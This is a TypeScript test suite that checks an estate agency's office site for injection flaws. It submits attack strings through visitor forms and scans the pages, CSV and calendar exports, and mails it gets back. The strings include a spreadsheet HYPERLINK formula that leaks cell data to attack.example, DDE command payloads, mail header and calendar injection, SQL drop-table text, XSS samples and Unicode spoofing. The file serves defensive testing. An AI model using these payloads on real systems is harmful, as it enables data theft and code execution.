import type { Hono } from 'hono'
import { Parser } from 'htmlparser2'
import { type Kysely, sql } from 'kysely'
import { expect, test } from 'vitest'
import type { Schema } from '#src/data/database/schema.ts'
import type { Mail } from '#src/domain/mails/mail.ts'
import { mailLook } from '#src/mails/mail-look.ts'
import { renderMail } from '#src/mails/render-mail.tsx'
import * as routes from '#src/routes.ts'
import { aBrowser, queuedMails } from './support/accounts.ts'
import { attacks } from './support/attack-strings.ts'
import { testDatabase } from './support/database.ts'
import { type OfficeBrowserClient, officeSite } from './support/office.ts'
import { addProperty } from './support/properties.ts'
import { testContent, testNow } from './support/site.ts'
import { todaysShare, trials } from './support/trials.ts'

/** What no page runs, but a spreadsheet, a mail server, a calendar, a database or an eye would take for something else. */
const others = [
  '=HYPERLINK("http://attack.example/?"&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  'a\r\nBcc: bob@attack.example\r\n\r\nhello',
  'a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:attack',
  'a\u2028Bcc: bob@attack.example',
  "'; drop table lead; --",
  '%_\\',
  '\u202egnp.exe\u202c',
  'ad\u200bmin\u200d\u2060\ufeff',
  '\u2066\u2067\u2069',
  '{name} {me} {__proto__}',
  `${'x'.repeat(3900)}`,
  `${'w\u0301'.repeat(1900)}`,
]
/** What can stand together in a field stands together; what matters at the beginning of one stands alone. */
const [first = '', ...further] = inGroups([...attacks.markup, ...attacks.value, ...attacks.address], 6)
const texts = [first, ...todaysShare(further), ...others]

test('what visitors wrote runs nowhere that office users see it: pages, files, calendars, answers for scripts and mails', async () => {
  await using db = await testDatabase()
  const { site, as } = await officeSite(db)
  const propertyId = await addProperty(db, { branch_id: 4101 })
  expect(await sendAll(site, db, propertyId)).toBeGreaterThan(texts.length * 2)

  const boss = await as('administrator', { name: 'Ann Bee' })
  const seen = [await ownCalendar(db, boss), ...(await everything(boss))]
  for (const part of ['/office/enquiries/', '/office/diary/appointments/', '/office/people/', '.csv', '.ics'])
    expect(
      seen.some(({ address }) => address.includes(part)),
      part,
    ).toBe(true)
  // All of it was there to be seen.
  const pages = seen.map(({ text }) => text).join('\n')
  for (const text of ['&lt;script&gt;alert(1)&lt;/script&gt;', '=HYPERLINK(', 'Bcc: bob@attack.example', 'drop table lead'])
    expect(pages).toContain(text)
  expect(seen.flatMap(({ address, type, text }) => [...new Set(faultsOf(type, text))].map((fault) => `${address}: ${fault}`))).toEqual([])
  const mails = await rendered(db)
  expect(mails.length).toBeGreaterThan(texts.length)
  // Each has a style sheet of its own.
  expect(mails.flatMap(({ html }) => faultsOfPage(html.replace('<style>', ''), [siteUrl]))).toEqual([])
  expect(mails.flatMap(({ heads }) => heads.filter((head) => /[\r\n]/.test(head)))).toEqual([])
})

test('the checks find what they are for', () => {
  for (const page of [
    '<script>alert(1)</script>',
    '<b onclick=x>',
    '<iframe>',
    '<a href="javascript:alert(1)">',
    '<img src=//attack.example>',
  ])
    expect(faultsOf('text/html', page), page).toHaveLength(1)
  for (const table of ['a,b\r\n=1+1,c', 'a\r\n"\t@x"', 'a,"+1""x"']) expect(faultsOf('text/csv', table), table).toHaveLength(1)
  expect(faultsOf('text/csv', 'a,-4.5,"b=1"')).toEqual([])
  expect(faultsOf('text/markdown', '- a \\<b\\>, \\[c\\](d)')).toEqual([])
  for (const markdown of ['<b>', '[a](javascript:1)']) expect(faultsOf('text/markdown', markdown), markdown).toHaveLength(1)
  expect(faultsOf('image/svg+xml', '<svg><path d="M0 0"/></svg>')).toEqual([])
  for (const drawing of ['<svg onload=x>', '<svg><script>']) expect(faultsOf('image/svg+xml', drawing), drawing).toHaveLength(1)
  expect(faultsOf('application/pdf', '/OpenAction << /S /Named >>')).toHaveLength(1)
  const event = 'BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT\r\n'
  expect(faultsOf('text/calendar', event)).toEqual([])
  for (const wrong of [`${event}hello\r\n`, event.replace('x', 'x\nATTENDEE:y'), event.replace('x\r\n', 'x\r\nEND:VEVENT\r\n')])
    expect(faultsOf('text/calendar', wrong), wrong).not.toEqual([])
})

function inGroups(all: readonly string[], size: number): string[] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, group) => all.slice(group * size, (group + 1) * size).join('\n'))
}

const siteUrl = 'https://www.withyandvale.example'

/** The mails that are queued as they would be sent, with what stands in their heads. */
async function rendered(db: Kysely<Schema>): Promise<{ html: string; heads: string[] }[]> {
  const content = await testContent()
  return (await queuedMails(db)).map(({ kind, to, data }) => {
    const { html, subject, replyTo = '' } = renderMail({ kind, data } as unknown as Mail, content.site, mailLook(content, siteUrl))
    return { html, heads: [to, subject, replyTo] }
  })
}

/** The timeline of each holds fifty enquiries. */
const people = 7

/** Sends each text by the forms of visitors, in every field that takes it; returns how many were taken. */
async function sendAll(site: Hono, db: Kysely<Schema>, propertyId: number): Promise<number> {
  let taken = 0
  for (const [number, text] of texts.entries()) {
    const client = { first_name: 'Ada', last_name: 'Byron', email: `ada.${number % people}@example.com`, tel_home: '01823333444' }
    const whole = { lead_client: { ...client, street_address: text, town: text }, lead: { message: text, [text]: text }, source_page: text }
    const bodies = [
      ['/leads', { ...whole, lead: { ...whole.lead, branch_id: 4101, valuation_reason: text } }],
      ['/leads', { ...whole, lead_client: { ...client, email: text, first_name: text, last_name: text, tel_home: text } }],
      [`/properties/${propertyId}/sales/leads`, { ...whole, marketing_preferences: { opt_in_terms: 'on' } }],
      ['/leads', { lead_client: client, lead: { message: text, branch_id: 4101 }, [text]: { [text]: text } }],
    ] as const
    for (const [at, [path, body]] of bodies.entries()) {
      await db.deleteFrom('attempt').execute()
      const from = `10.${at}.${number >> 8}.${number & 255}`
      const answer = await aBrowser(site, { from }).send(path, { body, headers: { accept: 'application/json' } })
      expect([200, 413, 422], `${path} ${text.slice(0, 80)}`).toContain(answer.status)
      if (answer.status === 200) taken += 1
    }
  }
  return taken
}

/** Books a time for each enquiry, all for who asks, and returns what a calendar program gets of them. */
async function ownCalendar(db: Kysely<Schema>, { user, post, get }: OfficeBrowserClient & { user: { id: number } }): Promise<Seen> {
  await db
    .insertInto('negotiator')
    .values({ office_user_id: user.id, branches: [4101] })
    .execute()
  await sql`
    insert into appointment (lead_id, kind, branch_id, property_id, starts_at, ends_at, changed_at, negotiator_id)
    select lead_id, case when property_id is null then 'valuation' else 'viewing' end, 4101, property_id, at, at + interval '20 minutes', at, ${user.id}
    from lead cross join lateral (select ${testNow}::timestamptz + lead_id % 400 * interval '30 minutes' as at) as time`.execute(db)
  const page = await (await post(routes.officeDiary.renewCalendar.href())).text()
  const address = /\/office\/calendars\/[\w.-]+\.ics/.exec(page)?.[0] ?? ''
  const answer = await get(address)
  return { address, type: answer.headers.get('content-type') ?? '', text: await answer.text() }
}

interface Seen {
  address: string
  type: string
  text: string
}

/** Of addresses of one shape, so many are looked at. */
const mostOfShape = trials(4, 20)

/** What is typed into each search of the office. */
const typed = ['ada', ...todaysShare([...attacks.value.slice(0, 8), ...others.slice(0, 12)])]

/** All that the office's pages lead to from its home page on, with what its searches find. */
async function everything(client: OfficeBrowserClient): Promise<Seen[]> {
  const seen: Seen[] = []
  const known = new Set<string>()
  const shapes = new Map<string, number>()
  const waiting = ['/office']
  for (let address = waiting.shift(); address !== undefined; address = waiting.shift()) {
    const shape = address.replaceAll(/\d+/g, 'N').replace(/(\w+=)[^&]*$/, '$1')
    if (known.has(address) || (shapes.get(shape) ?? 0) >= mostOfShape) continue
    known.add(address)
    shapes.set(shape, (shapes.get(shape) ?? 0) + 1)
    const answer = await client.get(address)
    expect(answer.status, address).toBeLessThan(500)
    expect(answer.headers.get('set-cookie') ?? '', address).not.toContain('attack')
    const type = answer.headers.get('content-type') ?? ''
    // A page of the site is what it is to visitors, and another one is led to.
    if (type.startsWith('text/event-stream') || answer.status === 303 || address.startsWith(routes.officeContent.preview.path)) {
      await answer.body?.cancel()
      continue
    }
    const text = await answer.text()
    seen.push({ address, type, text })
    if (!type.startsWith('text/html')) continue
    const { links, searches } = leadsOn(text)
    waiting.push(...links, ...searches.flatMap((search) => typed.map((each) => search + encodeURIComponent(each))))
  }
  return seen
}

/** Where a page of the office leads to, and the beginnings of the addresses of its searches. */
function leadsOn(page: string): { links: string[]; searches: string[] } {
  const links: string[] = []
  const searches: string[] = []
  let action: string | undefined
  const onopentag = (name: string, { href, method, action: to, type, name: field }: Record<string, string>) => {
    if (name === 'a' && href?.startsWith('/office')) links.push(href.replace(/#.*/, ''))
    if (name === 'form') action = (method ?? 'get').toLowerCase() === 'get' && to?.startsWith('/office') ? to : undefined
    if (name === 'input' && action !== undefined && field && ['search', 'text'].includes(type ?? 'text'))
      searches.push(`${action}?${field}=`)
  }
  parse(page, onopentag)
  return { links, searches }
}

function parse(page: string, onopentag: (name: string, attributes: Record<string, string>) => void): void {
  const parser = new Parser({ onopentag }, { decodeEntities: true })
  parser.end(page)
}

/** What must stand in nothing that the office answers, by what it is. */
function faultsOf(type: string, text: string): string[] {
  if (type.startsWith('text/html')) return faultsOfPage(text)
  if (type.startsWith('text/csv')) return faultsOfTable(text)
  if (type.startsWith('text/markdown')) return [...text.matchAll(/(?<!\\)(?:<|\]\()\S{0,20}/g)].map(([mark]) => `has ${mark}`)
  if (type.startsWith('text/calendar')) return faultsOfCalendar(text)
  if (type.startsWith('application/json')) return typeof JSON.parse(text) === 'object' ? [] : ['is no object']
  // Scripts of an SVG run where it is opened by itself; those of a PDF are actions.
  if (type === 'image/svg+xml')
    return [...text.matchAll(/<(?!\/?(?:svg|path|rect|title|g)\b)\S{0,20}|\bon\w+=|href/g)].map(([mark]) => `has ${mark}`)
  if (type === 'application/pdf')
    return [...text.matchAll(/\/(?:JavaScript|JS|OpenAction|Launch|EmbeddedFile)\b/g)].map(([mark]) => `has ${mark}`)
  if (type === 'image/png') return []
  return [`is ${type}`]
}

const never = new Set(['iframe', 'object', 'embed', 'applet', 'base', 'frameset', 'math', 'marquee', 'video', 'audio', 'xss', 'style'])
const addresses = ['href', 'src', 'action', 'formaction', 'srcset', 'ping', 'poster', 'background', 'data', 'xlink:href']

/** A path of the site's own, or what is dialled or written to. */
const harmless = /^(\/(?![/\\])|#|\?|tel:[+\d;=a-z]+$|mailto:[^\s@<>"]+@[^\s@<>"]+$)/

/** A page of the site that the office shows within its own. */
function isOwnFrame(name: string, { src = '', ...marks }: Record<string, string>): boolean {
  return (
    name === 'iframe' && harmless.test(src) && ['data-preview', 'data-view-site', 'data-example', 'data-look'].some((mark) => mark in marks)
  )
}

/** `own`: beginnings of addresses that lead to the site itself. */
function faultsOfPage(page: string, own: readonly string[] = []): string[] {
  const faults: string[] = []
  const isOwn = (value: string) => harmless.test(value) || own.some((site) => value === site || value.startsWith(`${site}/`))
  parse(page, (name, attributes) => {
    if (never.has(name) && !isOwnFrame(name, attributes)) faults.push(`<${name}>`)
    if (name === 'script' && !/^\/(office\/)?assets\//.test(attributes.src ?? '')) faults.push('a script of its own')
    if (name === 'meta' && attributes['http-equiv'] !== undefined) faults.push('<meta http-equiv>')
    for (const [attribute, value] of Object.entries(attributes)) {
      if (/^on/.test(attribute)) faults.push(`${attribute}=`)
      if (addresses.includes(attribute) && !isOwn(value)) faults.push(`${attribute}=${value.slice(0, 60)}`)
    }
  })
  return faults
}

/** RFC 4180; a cell that begins like a formula is one to a spreadsheet. */
function faultsOfTable(table: string): string[] {
  const cells = [...table.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain ?? '')
  return cells
    .filter((cell) => /^[\s\p{C}]*[=+\-@]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
    .map((cell) => `cell ${cell.slice(0, 40)}`)
}

/** RFC 5545: lines end in CRLF and are properties, or go on after a space. */
function faultsOfCalendar(calendar: string): string[] {
  const lines = calendar.split('\r\n')
  const count = (line: string) => lines.filter((each) => each === line).length
  const wrong = lines.filter((line) => line !== '' && !/^( |[A-Z-]+[;:])/.test(line))
  const isWhole = count('BEGIN:VEVENT') === count('END:VEVENT') && !/(^|[^\r])\n/.test(calendar) && !lines.includes('SUMMARY:attack')
  return [...wrong, ...(isWhole ? [] : ['an event of a visitor’s'])]
}
